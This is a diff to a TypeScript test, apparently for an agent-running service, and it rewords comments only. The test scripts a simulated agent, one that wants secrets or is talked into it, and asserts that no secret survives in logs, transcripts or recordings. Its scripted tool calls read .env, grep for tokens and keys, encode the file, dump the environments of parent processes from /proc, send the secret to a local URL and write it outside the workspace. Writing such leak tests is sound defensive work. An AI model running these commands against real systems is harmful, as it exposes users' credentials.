@@ -8,8 +8,8 @@ import { SET_UP_MS } from '../support/scratch';
 import { type LiveScratch, liveScratch } from './service';
 
 /**
- * What an agent that wants to get at secrets, or is talked into it, leaves behind: nothing on the disk of the worker, of the server or in
- * a recording holds one, in any form that it is looked for in. (The model itself has been told the secret arg: the step's prompt says so.)
+ * An agent that wants to get at secrets, or is talked into it, leaves none on the disk of the worker, of the server or in a recording, in
+ * any form that the test looks for. (The model itself knows the secret arg: the step's prompt says it.)
  */
 const ARG = 'arg-hush-"7c1f"-9b2e';
 const PIPELINE = `
@@ -36,7 +36,7 @@ afterAll(() => live.close());
 
 const sh = (script: string): [string, { argv: string[] }] => ['run', { argv: ['sh', '-c', script] }];
 
-/** The first step looks wherever a secret may be, then says all that it knows; so does the second, and fails at it. */
+/** The first step looks wherever a secret may be, then says all that it knows; so does the second, which fails. */
 function serve({ idempotencyKey }: Received): ReturnType<typeof call> {
   const turn = Number(idempotencyKey.split('/').at(-1));
   if (idempotencyKey.includes('/tell#')) return say(`${ARG} ${key}`);
@@ -45,7 +45,7 @@ function serve({ idempotencyKey }: Received): ReturnType<typeof call> {
     ['read_file', { path: '.env' }],
     ['grep', { pattern: 'TOKEN|KEY' }],
     sh('cat .env >&2; base64 -w0 .env; od -An -tx1 -v .env | tr -d " \\n"; exit 3'),
-    // The worker's environment is nobody's business, and any program of its user can read it.
+    // Nobody may see the worker's environment, although any program of its user can read it.
     sh("p=$$; while [ $p -gt 1 ]; do tr '\\0' '\\n' </proc/$p/environ; p=$(awk '/^PPid/{print $2}' /proc/$p/status); done"),
     ['fetch_url', { url: `http://127.0.0.1:1/?token=${encodeURIComponent(ARG)}` }],
     ['write_file', { path: '../out', content: key }],
@@ -94,7 +94,7 @@ test('no secret is left in history, journal, transcripts, artifacts, logs or rec
     [ARG, key].flatMap((secret) => secretEncodings(secret).flatMap((form) => (text.includes(form) ? [`${name}: ${form}`] : []))),
   );
   expect(found).toEqual([]);
-  // It did look, and what it found was masked.
+  // The agent did look, and what it found was masked.
   expect(shown.out).toContain('***');
   expect(history.out).toContain(run);
 });
